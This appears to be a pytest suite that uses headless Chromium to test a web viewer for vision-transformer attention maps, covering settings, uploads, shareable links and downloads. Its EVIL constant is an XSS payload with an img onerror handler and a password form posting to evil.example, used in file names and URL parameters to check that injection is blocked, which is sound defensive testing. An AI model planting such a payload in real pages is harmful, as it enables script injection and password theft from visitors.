"""The page in headless Chromium, on a desktop and on a phone: what a visitor does, sees, and asks of the server."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import numpy as np
import pytest

import vitattn_widgets as va
from vitattn_widgets.view.settings import VIEW_FIELDS
from vitattn_widgets.viewer.settings import START

from ..conftest import SAMPLES, noise_photo
from ..lab import CHROMIUM, running_browser
from .lab import MAX_UPLOAD, SIZES, Visitor, picture_file, png, running_page

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it with apt install chromium")

EVIL = "<img src=x onerror=window.harmed=1><form action=//evil.example><input name=p type=password></form>"


@pytest.fixture(scope="module")
def model(wide_model: va.models.AttentionModel) -> va.models.AttentionModel:
    return wide_model


@pytest.fixture(scope="module")
def served(model: va.models.AttentionModel, tmp_path_factory: pytest.TempPathFactory):
    with running_page(model, tmp_path_factory.mktemp("gradio")) as (address, page), running_browser() as browser:
        yield address, browser, page


@pytest.fixture(params=list(SIZES))
def visitor(served, request: pytest.FixtureRequest):
    visitor = Visitor(served[1], served[0], request.param)
    visitor.look()
    yield visitor
    visitor.close()


@pytest.fixture
def desktop(served):
    visitor = Visitor(served[1], served[0])
    visitor.look()
    yield visitor
    visitor.close()


def caption_of(model: va.models.AttentionModel, photo, settings: va.ViewSettings) -> str:
    capture = va.complete_capture(model, va.capture_attention(model, photo), settings)
    return va.render_view(capture, settings).caption


def test_the_first_picture_is_the_first_samples(visitor: Visitor, model: va.models.AttentionModel) -> None:
    assert visitor.settings() == replace(START, layer=2)
    assert visitor.shown()["picture"] == "chelsea"
    assert visitor.caption() == caption_of(model, SAMPLES / "chelsea.jpg", visitor.settings())
    overflowing = visitor.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert overflowing <= 1
    assert visitor.complaints == []
    assert {urlsplit(address).netloc for _, address in visitor.requests if address[:4] == "http"} == {
        urlsplit(visitor.address).netloc
    }


def test_no_control_asks_anything_of_the_server(desktop: Visitor, model: va.models.AttentionModel) -> None:
    page = desktop.page
    for layer in (0, 1, 2):  # their queries and keys are fetched ahead, as soon as they are looked at
        desktop.slide(layer)
        desktop.rest()
    asked = len(desktop.requests)
    for layer, row, col in ((0, 1, 1), (1, 3, 5), (2, 2, 4)):
        desktop.slide(layer)
        desktop.click_patch(row, col)
        desktop.wait_until(layer=layer, query=[row, col])
        assert desktop.caption() == caption_of(model, SAMPLES / "chelsea.jpg", desktop.settings())
    page.get_by_role("gridcell", name="layer 1, head 2").click()
    desktop.wait_until(layer=1, head=2)
    page.get_by_role("radiogroup", name="Head").get_by_role("radio", name="all", exact=True).click()
    desktop.wait_until(head=None)
    page.get_by_text("More", exact=True).click()
    page.get_by_text("Expert", exact=True).click()
    page.get_by_role("radio", name="maximum", exact=True).click()
    desktop.wait_until(aggregation="max")
    desktop.slide(0.3, "Opacity")
    desktop.wait_until(opacity=0.3)
    page.get_by_role("checkbox", name="median").click()
    desktop.wait_until(median=False)
    page.get_by_role("button", name="Undo").click()
    desktop.wait_until(median=True)
    desktop.rest()
    assert desktop.requests[asked:] == []
    assert desktop.complaints == []


def test_an_own_photo_is_shown_with_the_settings_as_they_stand(visitor: Visitor, model, tmp_path: Path) -> None:
    visitor.slide(0)
    visitor.wait_until(layer=0)
    path = picture_file(tmp_path, seed=7, name="my photo.png")
    visitor.upload(path)
    visitor.wait_until(picture="my photo.png", layer=0)
    assert visitor.caption() == caption_of(model, path, visitor.settings())
    visitor.click_patch(3, 4)
    visitor.wait_until(query=[3, 4])
    assert visitor.caption() == caption_of(model, path, visitor.settings())
    visitor.upload(picture_file(tmp_path, seed=8, name="my photo.png"))
    visitor.wait_until(picture="my photo.png (2)")
    thumbnail = visitor.page.get_by_role("button", name="my photo.png", exact=True)
    assert thumbnail.locator("img").evaluate("(image) => image.decode().then(() => image.naturalHeight)") > 10
    thumbnail.click()
    visitor.wait_until(picture="my photo.png")
    visitor.page.wait_for_url(lambda url: "sample" not in urlsplit(url).query, timeout=5000)  # written after a pause
    assert visitor.complaints == []


def test_a_photo_is_dropped_or_pasted(desktop: Visitor, model: va.models.AttentionModel) -> None:
    desktop.page.evaluate(
        """(bytes) => {
            const items = new DataTransfer();
            items.items.add(new File([new Uint8Array(bytes)], "dropped.png", { type: "image/png" }));
            const dropped = new DragEvent("drop", { dataTransfer: items, bubbles: true, cancelable: true });
            document.querySelector(".va-stage").dispatchEvent(dropped);
        }""",
        list(png(noise_photo((60, 90), 5))),
    )
    desktop.wait_until(picture="dropped.png")
    assert desktop.caption() == caption_of(model, noise_photo((60, 90), 5), desktop.settings())
    desktop.paste(png(noise_photo((70, 110), 8)))
    desktop.wait_until(picture="image.png")
    assert desktop.caption() == caption_of(model, noise_photo((70, 110), 8), desktop.settings())


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("broken.png", b"no picture", "broken.png: not a picture of a known type"),
        ("empty.png", b"", "empty.png: the file is empty"),
        ("large.png", b"\0" * (MAX_UPLOAD + 1), "large.png: at most 0.3 MB are accepted; scale the picture down"),
        (f"{EVIL.replace('/', '')}.png", b"no picture", "not a picture of a known type"),
    ],
)
def test_a_bad_file_is_one_line_on_the_picture_which_stays(visitor: Visitor, name, content, message) -> None:
    before = visitor.shown()
    visitor.paste(content, name)
    assert message in visitor.message()
    assert "\n" not in visitor.message()
    note, stage = (visitor.page.locator(selector).bounding_box() for selector in (".va-note", ".va-stage"))
    assert note["y"] >= stage["y"] - 1
    assert note["y"] + note["height"] <= stage["y"] + stage["height"] + 1
    assert visitor.shown() == before
    assert visitor.page.evaluate("window.harmed") is None
    assert visitor.page.locator(".toast-wrap *, form").count() == 0


def test_the_address_restores_what_was_shown(visitor: Visitor, served) -> None:
    visitor.page.get_by_role("button", name="coffee").click()
    visitor.wait_until(picture="coffee")
    visitor.slide(1)
    visitor.click_patch(1, 2)
    visitor.wait_until(query=[1, 2], layer=1)
    visitor.page.wait_for_function("location.search.includes('query')")
    link = urlsplit(visitor.page.url).query
    assert parse_qs(link)["query"] == ["1,2"]

    other = Visitor(served[1], served[0])
    other.open(f"?{link}")
    assert other.shown() == visitor.shown()
    assert other.caption() == visitor.caption()
    assert other.page.locator(".va-note").count() == 0
    assert other.complaints == []
    other.close()


def test_every_setting_is_restored_by_its_link(served) -> None:
    settings = {
        "layer": 0, "head": 1, "aggregation": "max", "query": "mean", "source": "norm", "sinks": "outline",
        "median": False, "scale": "shared", "opacity": 0.4, "cmap": "gray", "on": "original", "blend": "even",
    }  # fmt: skip
    link = {**settings, "smoothing": "bilinear gaussian", "arrangement": "side by side", "sample": "rocket"}
    del link["median"]
    first, second = Visitor(served[1], served[0]), Visitor(served[1], served[0])
    first.open("?" + "&".join(f"{name}={quote(str(value))}" for name, value in link.items()))
    assert first.settings() == replace(START, **settings)
    first.page.get_by_role("button", name="Keep").click()
    first.page.get_by_role("button", name="Copy link").click()
    second.open("?" + urlsplit(first.page.locator(".va-address").text_content()).query)
    assert second.shown() == first.shown()
    first.close()
    second.close()


def test_a_bad_link_is_text_on_the_picture_and_nothing_else(served) -> None:
    visitor = Visitor(served[1], served[0])
    evil = quote(EVIL)
    visitor.open(f"?layer=99&target={evil}&cmap={evil}&sample={evil}&panels={evil}&head=1")
    assert visitor.settings() == replace(START, layer=2, head=1)
    message = visitor.message()
    for words in (
        "there is no sample",
        "layer 99 does not exist",
        "there is no class",
        "the comparison cannot be shown",
    ):
        assert words in message
    assert "<img src=x" in message
    assert visitor.page.evaluate("window.harmed") is None
    assert visitor.page.locator(".va-note img, .toast-wrap *, form").count() == 0
    assert {urlsplit(address).netloc for _, address in visitor.requests if address[:4] == "http"} == {
        urlsplit(served[0]).netloc
    }
    visitor.close()


def test_a_comparison_is_restored_by_its_link(desktop: Visitor, served) -> None:
    desktop.page.get_by_role("button", name="Compare").click()
    desktop.page.get_by_role("button", name="layers", exact=True).click()
    desktop.page.wait_for_function("location.search.includes('panels')")
    panels = json.loads(parse_qs(urlsplit(desktop.page.url).query)["panels"][0])
    assert [panel["layer"] for panel in panels] == [0, 1, 2]
    other = Visitor(served[1], served[0])
    other.open(f"?{urlsplit(desktop.page.url).query}")
    other.page.get_by_role("button", name="Compare").click()
    texts = [one.page.locator(".va-compared-panels").inner_text() for one in (desktop, other)]
    assert texts[0] == texts[1]
    assert other.complaints == []
    other.close()


def test_a_check_says_what_check_map_says(desktop: Visitor, model: va.models.AttentionModel) -> None:
    desktop.page.get_by_role("button", name="Check").click()
    desktop.page.get_by_role("button", name="Check this map").click()
    capture = va.capture_attention(model, SAMPLES / "chelsea.jpg")
    check = va.check_map(model, capture, desktop.settings())
    desktop.page.get_by_text(check.verdict).first.wait_for(timeout=30000)
    for sentence in check.sentences:
        assert sentence in desktop.page.locator(".va-drawer").text_content()
    assert desktop.complaints == []


def test_recipe_and_offline_page_are_made_by_the_server(desktop: Visitor, served, model, tmp_path: Path) -> None:
    path = picture_file(tmp_path, seed=4, name="<b>.png")
    desktop.upload(path)
    desktop.wait_until(picture="<b>.png")
    desktop.slide(1)
    desktop.page.get_by_role("button", name="Keep").click()
    contents = {}
    for label in ("Recipe: JSON", "Offline page: HTML", "Numbers: NPZ"):
        with desktop.page.expect_download(timeout=30000) as download:
            desktop.page.get_by_role("button", name=label).click()
        contents[label] = download.value.path().read_bytes()
        assert download.value.suggested_filename.startswith("_b_-")
    again = va.from_recipe(json.loads(contents["Recipe: JSON"]), model=model, picture=path)
    assert again.caption == caption_of(model, path, desktop.settings())
    with np.load(io.BytesIO(contents["Numbers: NPZ"])) as found:
        np.testing.assert_allclose(found["grid_map"], again.grid_map, rtol=1e-5)
    offline = tmp_path / "offline.html"
    offline.write_bytes(contents["Offline page: HTML"])
    reader = served[1].new_page()
    reader.goto(offline.as_uri())
    reader.wait_for_selector(".va-viewer[data-shown]", timeout=20000)
    shown = json.loads(reader.locator(".va-viewer").get_attribute("data-shown"))
    assert {name: shown[name] for name in VIEW_FIELDS} == {name: desktop.shown()[name] for name in VIEW_FIELDS}
    reader.close()
    assert desktop.complaints == []


def test_on_a_phone_the_picture_stays_in_sight_of_its_controls(served) -> None:
    visitor = Visitor(served[1], served[0], "phone")
    visitor.open()
    page = visitor.page
    page.get_by_text("More", exact=True).click()
    page.get_by_text("Expert", exact=True).click()
    controls = page.locator(".va-body :is(input:not([type=file]), select, button):visible")
    assert controls.count() > 20
    height = SIZES["phone"][1]
    for number in range(controls.count()):
        controls.nth(number).evaluate("(control) => control.scrollIntoView({ block: 'nearest' })")
        bounds = page.locator(".va-stage").bounding_box()
        seen = min(bounds["y"] + bounds["height"], height) - max(bounds["y"], 0)
        assert seen >= 0.6 * bounds["height"], controls.nth(number).evaluate("(control) => control.outerHTML")
    visitor.close()
